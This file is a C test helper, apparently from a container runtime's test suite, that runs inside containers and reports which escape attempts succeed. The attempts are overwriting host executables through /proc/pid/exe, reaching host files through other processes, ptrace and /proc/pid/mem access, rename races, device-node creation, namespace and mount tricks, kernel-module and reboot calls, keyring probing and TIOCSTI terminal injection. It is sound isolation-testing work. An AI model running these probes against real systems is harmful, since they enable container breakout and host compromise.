/*
 * What a hostile container tries, one word per attack.  A static program that the tests put into
 * containers: it says what it got on stdout, one line each, and nothing when it got nothing.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_pid(const char *s)
{
    return *s >= '1' && *s <= '9';
}

/* fds: descriptors that nobody gave us. */
static int fds(char **args)
{
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;

    (void)args;
    while ((e = readdir(d))) {
        char link[512] = "";

        if (*e->d_name == '.' || atoi(e->d_name) <= 2 || atoi(e->d_name) == dirfd(d))
            continue;
        (void)!readlinkat(dirfd(d), e->d_name, link, sizeof(link) - 1);
        printf("%s %s\n", e->d_name, link);
    }
    return 0;
}

/* write DIR...: what below can be opened for writing, but for processes' own files. */
static void try_all(const char *dir, int depth)
{
    DIR *d = depth < 12 ? opendir(dir) : NULL;
    struct dirent *e;

    while (d && (e = readdir(d))) {
        char path[4096];
        struct stat st;
        int fd;

        if (*e->d_name == '.' || (depth == 0 && strcmp(dir, "/proc") == 0 &&
                                  (is_pid(e->d_name) || strstr(e->d_name, "self"))))
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        if (lstat(path, &st))
            continue;
        if (S_ISDIR(st.st_mode)) {
            try_all(path, depth + 1);
        } else if (S_ISREG(st.st_mode) && (fd = open(path, O_WRONLY | O_NONBLOCK)) >= 0) {
            if (write(fd, "", 0) == 0) /* root may open what has no way to write */
                printf("%s\n", path);
            close(fd);
        }
    }
    if (d)
        closedir(d);
}

static int write_below(char **args)
{
    for (; *args; args++)
        try_all(*args, 0);
    return 0;
}

/* A container's own, or another's that shares its processes. */
static int is_containers(const char *link)
{
    return strncmp(link, "/bin/", 5) == 0 || strncmp(link, "/h/", 3) == 0;
}

/* exe: for ever, the programs of all processes that can be seen, to be written to. */
_Noreturn static int exe(char **args)
{
    static int held[256];
    size_t n = 0, next = 0;

    (void)args;
    puts("ready");
    fflush(stdout);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;

        while (d && (e = readdir(d))) {
            char path[300], link[512] = "";
            int fd;

            if (!is_pid(e->d_name))
                continue;
            snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
            fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            (void)!readlink(path, link, sizeof(link) - 1);
            if (is_containers(link)) {
                close(fd);
                continue;
            }
            if (n == 256)
                close(held[next]);
            held[next] = fd;
            next = (next + 1) % 256;
            n = n < 256 ? n + 1 : n;
            printf("held %s\n", link);
        }
        if (d)
            closedir(d);
        for (size_t i = 0; i < n; i++) {
            char path[64];
            int fd;

            snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
            fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                char link[512] = "";

                (void)!readlink(path, link, sizeof(link) - 1);
                if (!is_containers(link))
                    printf("WROTE %zd %s\n", write(fd, "#!/h/attack got\n", 16), link);
                close(fd);
            }
        }
        fflush(stdout);
    }
}

/* What somebody whom we trace may do. */
static void rights(const char *pid)
{
    char path[300], line[256];
    FILE *f;

    snprintf(path, sizeof(path), "/proc/%s/status", pid);
    f = fopen(path, "r");
    while (f && fgets(line, sizeof(line), f))
        if (strncmp(line, "CapPrm:", 7) == 0)
            printf("TRACED %s", line + 8);
    if (f)
        fclose(f);
}

/* enter CANARY: for ever, the host through processes that are on their way in. */
_Noreturn static int enter(char **args)
{
    static const char *const ways[] = {"root", "cwd",  "fd/3", "fd/4", "fd/5",
                                       "fd/6", "fd/7", "fd/8", "fd/9"};

    puts("ready");
    fflush(stdout);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;

        while (d && (e = readdir(d))) {
            char path[5000], link[512] = "";
            int fd;

            if (!is_pid(e->d_name) || atoi(e->d_name) == getpid())
                continue;
            for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
                snprintf(path, sizeof(path), "/proc/%s/%s/%s", e->d_name, ways[i], args[0]);
                if (access(path, F_OK) == 0)
                    printf("SAW %s\n", path);
            }
            snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
            if (readlink(path, link, sizeof(link) - 1) > 0 && is_containers(link))
                continue; /* the container's own already */
            snprintf(path, sizeof(path), "/proc/%s/mem", e->d_name);
            fd = open(path, O_RDWR);
            if (fd >= 0) {
                printf("MEM %s\n", e->d_name);
                close(fd);
            }
            if (ptrace(PTRACE_SEIZE, atoi(e->d_name), 0, 0) == 0) {
                rights(e->d_name);
                /* It would otherwise be ours to bury, and nobody would hear of its end. */
                ptrace(PTRACE_INTERRUPT, atoi(e->d_name), 0, 0);
                (void)waitpid(atoi(e->d_name), NULL, __WALL);
                ptrace(PTRACE_DETACH, atoi(e->d_name), 0, 0);
            }
        }
        if (d)
            closedir(d);
        fflush(stdout);
    }
}

/* swap A B: for ever, one for the other. */
static int swap(char **args)
{
    puts("ready");
    fflush(stdout);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], 2 /* RENAME_EXCHANGE */))
            return 1;
}

/* devices: nodes that a container may make but not use. */
static int devices(char **args)
{
    static const struct {
        mode_t type;
        unsigned major, minor;
    } all[] = {
        {S_IFCHR, 1,   1  },
        {S_IFCHR, 1,   2  },
        {S_IFCHR, 1,   4  },
        {S_IFCHR, 1,   11 },
        {S_IFCHR, 10,  237},
        {S_IFCHR, 4,   0  },
        {S_IFCHR, 4,   64 },
        {S_IFCHR, 10,  1  },
        {S_IFBLK, 8,   0  },
        {S_IFBLK, 7,   0  },
        {S_IFBLK, 254, 0  },
        {S_IFBLK, 253, 0  },
        {S_IFBLK, 259, 0  },
        {S_IFCHR, 10,  229},
        {S_IFCHR, 10,  232}
    };

    (void)args;
    for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
        char path[64];
        int fd;

        snprintf(path, sizeof(path), "/tmp/node%zu", i);
        if (mknod(path, all[i].type | 0600, makedev(all[i].major, all[i].minor))) {
            printf("no node %u:%u: %s\n", all[i].major, all[i].minor, strerror(errno));
            continue;
        }
        if ((fd = open(path, O_RDONLY | O_NONBLOCK)) >= 0 || (errno != EPERM && errno != EACCES))
            printf("opened %u:%u %s\n", all[i].major, all[i].minor, fd < 0 ? strerror(errno) : "");
    }
    return 0;
}

/* kernel: calls that lead to the host's settings. */
static int kernel(char **args)
{
    static const char *const again[] = {"/proc/sys", "/sys", "/sys/fs/cgroup", "/proc", "/"};
    char path[] = "/tmp/mXXXXXX";

    (void)args;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
        puts("a user namespace");
    if (unshare(CLONE_NEWNS) == 0)
        puts("a mount namespace");
    if (unshare(CLONE_NEWCGROUP) == 0)
        puts("a cgroup namespace");
    if (mkdtemp(path) &&
        (mount("cgroup", path, "cgroup", 0, "memory") == 0 ||
         mount("none", path, "cgroup2", 0, NULL) == 0 ||
         mount("proc", path, "proc", 0, NULL) == 0 || mount("sysfs", path, "sysfs", 0, NULL) == 0))
        puts("a mount");
    for (size_t i = 0; i < sizeof(again) / sizeof(again[0]); i++)
        if (mount(NULL, again[i], NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ||
            umount2(again[i], MNT_DETACH) == 0)
            printf("mounted %s again\n", again[i]);
    if (syscall(SYS_open_by_handle_at, AT_FDCWD, "\0\0\0\0\1\0\0\0\0\0\0\0", O_RDONLY) >= 0 ||
        errno != EPERM)
        printf("open_by_handle_at: %s\n", strerror(errno));
    if (syscall(SYS_init_module, "", 0, "") == 0 || errno != EPERM)
        printf("init_module: %s\n", strerror(errno));
    if (syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) >= 0 ||
        errno != EPERM)
        printf("keyctl: %s\n", strerror(errno));
    if (syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL) == 0 || errno != EPERM)
        printf("reboot: %s\n", strerror(errno));
    return 0;
}

/* key NAME: a key of the session. */
static int key(char **args)
{
    long found = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", args[0], 0);

    if (found >= 0)
        printf("key %ld\n", found);
    printf("session %lx %s\n",
           (unsigned long)syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0),
           strerror(errno));
    return 0;
}

/* with-key NAME COMMAND...: a session that has the key. */
static int with_key(char **args)
{
    syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
    if (syscall(SYS_add_key, "user", args[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0 &&
        errno != ENOSYS)
        perror("add_key");
    execvp(args[1], args + 1);
    return 1;
}

/* tty: the terminal of whoever has started us. */
static int tty(char **args)
{
    int fd = open("/dev/tty", O_RDWR);

    (void)args;
    if (fd >= 0)
        puts("a controlling terminal");
    for (int i = 0; i < 3; i++)
        if (isatty(i))
            printf("%d is a terminal\n", i);
        else if (ioctl(i, TIOCSTI, "x") == 0)
            printf("%d takes input\n", i);
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *word;
        int (*run)(char **args);
    } all[] = {
        {"fds",      fds        },
        {"write",    write_below},
        {"exe",      exe        },
        {"enter",    enter      },
        {"swap",     swap       },
        {"devices",  devices    },
        {"kernel",   kernel     },
        {"key",      key        },
        {"with-key", with_key   },
        {"tty",      tty        }
    };

    for (size_t i = 0; argc > 1 && i < sizeof(all) / sizeof(all[0]); i++)
        if (strcmp(all[i].word, argv[1]) == 0)
            return all[i].run(argv + 2);
    return 2;
}
